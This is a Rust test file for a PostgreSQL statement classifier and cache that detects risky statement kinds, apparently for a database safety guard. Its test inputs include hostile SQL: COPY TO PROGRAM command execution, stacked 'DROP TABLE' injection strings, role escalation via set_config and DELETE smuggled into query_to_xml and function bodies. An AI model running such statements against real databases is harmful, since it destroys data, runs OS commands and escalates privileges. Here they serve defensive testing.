    assert_eq!(facts.unknown, None);
}

fn quote_literal(s: &str) -> String {
    format!("'{}'", s.replace('\'', "''"))
}

#[test]
fn kind_names_round_trip() {
    assert_eq!(StatementKind::ALL.len(), 39);
    for &k in StatementKind::ALL {
        assert_eq!(StatementKind::from_name(k.name()), Some(k));
        assert_eq!(StatementKind::from_name(&k.name().to_lowercase()), Some(k));
    }
    assert_eq!(
        StatementKind::from_name("copy program"),
        Some(StatementKind::CopyProgram)
    );
    assert_eq!(
        StatementKind::from_name("Set-Role"),
        Some(StatementKind::SetRole)
    );
    assert_eq!(StatementKind::from_name("SELEC"), None);
    assert_eq!(StatementKind::from_name("SETROLE"), None);
    let mut names: Vec<&str> = StatementKind::ALL.iter().map(|k| k.name()).collect();
    names.dedup();
    assert_eq!(names.len(), StatementKind::ALL.len());
}

#[test]
fn kind_set_operations() {
    let mut a = KindSet::default();
    assert!(a.is_empty());
    a.insert(StatementKind::Select);
    a.insert(StatementKind::Other);
    a.insert(StatementKind::Select);
    assert_eq!(a.len(), 2);
    assert!(a.contains(StatementKind::Other) && !a.contains(StatementKind::Drop));
    let b: KindSet = [StatementKind::Drop].into_iter().collect();
    let u = a.union(b);
    assert_eq!(
        u.iter().collect::<Vec<_>>(),
        vec![
            StatementKind::Select,
            StatementKind::Drop,
            StatementKind::Other
        ]
    );
    assert!(u.intersects(b) && !a.intersects(b));
    assert_eq!(format!("{u:?}"), "{Select, Drop, Other}");
}

#[test]
fn cache_hits_and_keeps_literal_sensitive_statements_apart() {
    let mut cache = SqlCache::new(16);
    let drop = cache.classify("DO $$ BEGIN DROP TABLE t; END $$").unwrap();
    let select = cache.classify("DO $$ BEGIN PERFORM 1; END $$").unwrap();
    assert!(drop.kinds.contains(StatementKind::Drop));
    assert!(!select.kinds.contains(StatementKind::Drop));
    let program = cache.classify("COPY t TO PROGRAM 'id'").unwrap();
    let file = cache.classify("COPY t TO '/tmp/x'").unwrap();
    assert!(
        program.kinds.contains(StatementKind::CopyProgram)
            && !file.kinds.contains(StatementKind::CopyProgram)
    );
    let role = cache
        .classify("SELECT set_config('role', 'admin', false)")
        .unwrap();
    let other = cache
        .classify("SELECT set_config('work_mem', '1MB', false)")
        .unwrap();
    assert!(
        role.kinds.contains(StatementKind::SetRole)
            && !other.kinds.contains(StatementKind::SetRole)
    );
    assert_eq!((cache.hits(), cache.misses(), cache.len()), (0, 6, 6));

    let again = cache.classify("DO $$ BEGIN DROP TABLE t; END $$").unwrap();
    assert!(std::rc::Rc::ptr_eq(&drop, &again));
    assert_eq!((cache.hits(), cache.misses()), (1, 6));
}

#[test]
fn cache_caches_errors_and_skips_long_text() {
    let mut cache = SqlCache::new(4);
    assert!(matches!(cache.classify("SELEC 1"), Err(SqlError::Parse(_))));
    assert!(matches!(cache.classify("SELEC 1"), Err(SqlError::Parse(_))));
    assert_eq!((cache.hits(), cache.misses()), (1, 1));

    let long = format!("SELECT 1{}", " ".repeat(CACHE_TEXT_BYTES_MAX));
    cache.classify(&long).unwrap();
    cache.classify(&long).unwrap();
    assert_eq!((cache.hits(), cache.misses(), cache.len()), (1, 3, 1));

    let mut off = SqlCache::new(0);
    off.classify("SELECT 1").unwrap();
    off.classify("SELECT 1").unwrap();
    assert_eq!((off.hits(), off.misses(), off.len()), (0, 2, 0));
}

#[test]
fn cache_is_bounded_and_keeps_hot_entries() {
    let mut cache = SqlCache::new(8);
    cache.classify("SELECT 'hot'").unwrap();
    for i in 0..100 {
        cache.classify(&format!("SELECT * FROM t{i}")).unwrap();
        // The hot statement is used between every two cold ones.
        cache.classify("SELECT 'hot'").unwrap();
        assert!(cache.len() <= 8);
    }
    assert_eq!(cache.len(), 8);
    let misses = cache.misses();
    cache.classify("SELECT 'hot'").unwrap();
    assert_eq!(cache.misses(), misses, "the hot statement was evicted");
    // Every cached entry still answers with its own facts.
    let facts = cache.classify("SELECT * FROM t99").unwrap();
    assert_eq!(facts.kinds, kinds("SELECT"));
    assert_eq!(
        facts.tables,
        vec![TableRef {
            schema: None,
            name: "t99".into()
        }]
    );
}

#[test]
fn cache_shares_entries_between_texts_that_differ_in_literals() {
    let mut cache = SqlCache::new(16);
    let a = cache
        .classify("SELECT * FROM users WHERE id = 1 AND name = 'a'")
        .unwrap();
    let b = cache
        .classify("SELECT * FROM users WHERE id = 42 AND name = 'b; DROP TABLE t'")
        .unwrap();
    assert!(std::rc::Rc::ptr_eq(&a, &b));
    assert_eq!(
        (
            cache.hits(),
            cache.normalized_hits(),
            cache.misses(),
            cache.len()
        ),
        (1, 1, 1, 1)
    );
    // A different structure is a different entry.
    let c = cache
        .classify("SELECT * FROM users WHERE id = 1; DROP TABLE t")
        .unwrap();
    assert!(c.kinds.contains(StatementKind::Drop));
    // Literal-sensitive texts never share, in either order.
    for (first, second, differ) in [
        (
            "SELECT set_config('work_mem', '1MB', false)",
            "SELECT set_config('role', 'admin', false)",
            StatementKind::SetRole,
        ),
        (
            "DO $$ BEGIN PERFORM 1; END $$",
            "DO $$ BEGIN DROP TABLE t; END $$",
            StatementKind::Drop,
        ),
        (
            "SELECT query_to_xml('SELECT 1', true, false, '')",
            "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')",
            StatementKind::Delete,
        ),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'",
            StatementKind::Delete,
        ),
    ] {
        assert!(
            !cache.classify(first).unwrap().kinds.contains(differ),
            "{first}"
        );
        assert!(
            cache.classify(second).unwrap().kinds.contains(differ),
            "{second}"
        );
    }
    assert_eq!(
        cache
            .classify("SET standard_conforming_strings = on")
            .unwrap()
            .unknown,
        None
    );
    assert!(
        cache
            .classify("SET standard_conforming_strings = off")
            .unwrap()
            .unknown
            .is_some()
    );
    assert_eq!(cache.normalized_hits(), 1);
}

/// Shapes are equal exactly when texts differ in constants alone, and
/// missing whenever the lexing could be in doubt.
#[test]
fn literal_shapes_replace_constants_and_nothing_else() {
    let shape = |t: &str| {
        let mut out = String::new();
        cache::literal_shape(t, &mut out).then_some(out)
    };
    let same = [
        (
            "SELECT abalance FROM pgbench_accounts WHERE aid = 12345;",
            "SELECT abalance FROM pgbench_accounts WHERE aid = 7;",
        ),
        ("SELECT 'a', 1.5, 1e5", "SELECT 'it''s', 22.75, 9e5"),
        ("SELECT x FROM t LIMIT 10", "SELECT x FROM t LIMIT 0"),
    ];
    for (a, b) in same {
        assert_eq!(shape(a), shape(b), "{a} / {b}");
        assert!(shape(a).is_some(), "{a}");
    }
    let differ = [
        ("SELECT * FROM t1", "SELECT * FROM t2"),
        ("SELECT 1e5", "SELECT 1e6"),
        ("SELECT 1 e", "SELECT 1e"),
        ("SELECT 'a' || 'b'", "SELECT 'a'"),
        ("SELECT 1", "select 1"),
    ];
    for (a, b) in differ {
        assert_ne!(shape(a), shape(b), "{a} / {b}");
    }
    for t in [
        "SELECT \"t1\" FROM t",
        "SELECT $1",
        "DO $$ BEGIN END $$",
        "SELECT 'a\\' FROM t",
        "SELECT E'a' FROM t",
        "SELECT B'101'",
        "SELECT U&'d!0061t' UESCAPE '!'",
        "SELECT 1 -- comment 2",
        "SELECT /* 1 */ 2",
        "SELECT 'open",
        "SELECT 'é'",
        "SELECT '\u{1}'",
    ] {
        assert_eq!(shape(t), None, "{t}");
    }
}

#[test]
fn session_follows_prepared_statements() {
    let mut cache = SqlCache::new(64);
    let mut s = SessionSql::default();

    let f = s.classify(&mut cache, "EXECUTE p(1)").unwrap();
    assert!(f.unknown.is_some(), "EXECUTE of a name never prepared");

    let f = s
        .classify(&mut cache, "PREPARE p(int) AS DELETE FROM t WHERE id = $1")
        .unwrap();
    assert_eq!(f.kinds, kinds("PREPARE DELETE"));
    assert_eq!(s.prepared(), 1);
    let f = s.classify(&mut cache, "EXECUTE p(1)").unwrap();
    assert_eq!(f.kinds, kinds("EXECUTE DELETE"));
    assert_eq!(f.unknown, None);
    assert_eq!(
        f.tables,
        vec![TableRef {
            schema: None,
            name: "t".into()
        }]
    );

    // The same text classified without the session stays unknown, from
    // the same cache.
    assert!(cache.classify("EXECUTE p(1)").unwrap().unknown.is_some());

    // Another session has its own statements.
    let mut other = SessionSql::default();
    assert!(
        other
            .classify(&mut cache, "EXECUTE p(1)")
            .unwrap()
            .unknown
            .is_some()
    );

    s.classify(&mut cache, "DEALLOCATE p").unwrap();
    assert_eq!(s.prepared(), 0);
    assert!(
        s.classify(&mut cache, "EXECUTE p(1)")
            .unwrap()
            .unknown
            .is_some()
    );
}

#[test]
fn session_prepare_and_execute_in_one_string() {
    let mut cache = SqlCache::new(64);
    let mut s = SessionSql::default();
    let f = s
        .classify(&mut cache, "PREPARE q AS UPDATE t SET a = 1; EXECUTE q")
        .unwrap();
    assert_eq!(f.kinds, kinds("PREPARE UPDATE EXECUTE"));
    assert!(f.without_where);
    assert_eq!(f.unknown, None);
    // EXECUTE before the PREPARE in the same string runs nothing known.
    let mut s = SessionSql::default();
    let f = s
        .classify(&mut cache, "EXECUTE r; PREPARE r AS SELECT 1")
        .unwrap();
    assert!(f.unknown.is_some());
}

#[test]
fn session_second_prepare_of_a_name_keeps_both_bodies() {
    let mut cache = SqlCache::new(64);
    let mut s = SessionSql::default();
    s.classify(&mut cache, "PREPARE p AS SELECT * FROM a")
        .unwrap();
    // The server refuses this while the first p stands; the session cannot
    // know whether it stands, so EXECUTE p is judged on both.
    s.classify(&mut cache, "PREPARE p AS DELETE FROM b")
        .unwrap();
    let f = s.classify(&mut cache, "EXECUTE p").unwrap();
    assert_eq!(f.kinds, kinds("EXECUTE SELECT DELETE"));
    assert_eq!(s.prepared(), 1);
}

#[test]
fn session_discard_and_deallocate_all_forget_everything() {
    let mut cache = SqlCache::new(64);
    for reset in ["DEALLOCATE ALL", "DISCARD ALL", "DEALLOCATE PREPARE ALL"] {
        let mut s = SessionSql::default();
        s.classify(&mut cache, "PREPARE a AS SELECT 1").unwrap();
        s.classify(&mut cache, "PREPARE b AS SELECT 2").unwrap();
        assert_eq!(s.prepared(), 2);
        s.classify(&mut cache, reset).unwrap();
        assert_eq!(s.prepared(), 0, "{reset}");
        assert!(
            s.classify(&mut cache, "EXECUTE a")
                .unwrap()
                .unknown
                .is_some()
        );
    }
    // DISCARD PLANS does not drop prepared statements.
    let mut s = SessionSql::default();
    s.classify(&mut cache, "PREPARE a AS SELECT 1").unwrap();
    s.classify(&mut cache, "DISCARD PLANS").unwrap();
    assert_eq!(s.prepared(), 1);
}

#[test]
fn session_prepared_statements_are_bounded() {
    let mut cache = SqlCache::new(0);
    let mut s = SessionSql::default();
    for i in 0..SESSION_PREPARED_MAX + 5 {
        s.classify(&mut cache, &format!("PREPARE p{i} AS SELECT {i}"))
            .unwrap();
    }
    assert_eq!(s.prepared(), SESSION_PREPARED_MAX);
    let last = SESSION_PREPARED_MAX + 4;
    assert!(
        s.classify(&mut cache, &format!("EXECUTE p{last}"))
            .unwrap()
            .unknown
            .is_some()
    );
    assert_eq!(s.classify(&mut cache, "EXECUTE p0").unwrap().unknown, None);
}

#[test]
fn session_parse_errors_pass_through() {
    let mut cache = SqlCache::new(8);
    let mut s = SessionSql::default();
    assert!(matches!(
        s.classify(&mut cache, "EXECUT p"),
        Err(SqlError::Parse(_))
    ));
}

/// Trees deeper than the parser's output can carry are refused, and neither
/// the parser nor the walk overflows the stack on the way.
#[test]
fn deep_nesting_is_refused_not_a_crash() {
    for depth in [10usize, 40, 200, 5000] {
        let chain = format!("SELECT {}1", "1 + ".repeat(depth));
        let unions = vec!["SELECT 1"; depth].join(" UNION ALL ");
        let parens = format!("SELECT {}1{}", "(".repeat(depth), ")".repeat(depth));
        for sql in [chain, unions, parens] {
            let r = classify(&sql);
            eprintln!(
                "DEPTH {depth} {} {:?}",
                &sql[..20],
                r.as_ref().map(|f| f.kinds).map_err(|e| e.to_string())
            );
            match r {
                Ok(f) => assert!(f.kinds.contains(StatementKind::Select)),
                Err(SqlError::Parse(_)) => assert!(depth > 40, "depth {depth} refused"),
                Err(e) => panic!("{e}"),
            }
        }
    }
}

/// Every prefix of every corpus statement either classifies or is refused;
/// none panics. Cut-off text reaches parts of the parser and of the
/// PL/pgSQL compiler that whole statements do not.
#[test]
fn every_prefix_classifies_or_is_refused() {
    let mut refused = 0usize;
    for case in CORPUS {
        for end in (0..case.sql.len()).filter(|&i| case.sql.is_char_boundary(i)) {
            match classify(&case.sql[..end]) {
                Ok(facts) => assert!(facts.statements <= 3, "{:?}", &case.sql[..end]),
                Err(SqlError::Parse(_)) => refused += 1,
                Err(e) => panic!("{e}"),
            }
        }
    }
    assert!(refused > 0);
}
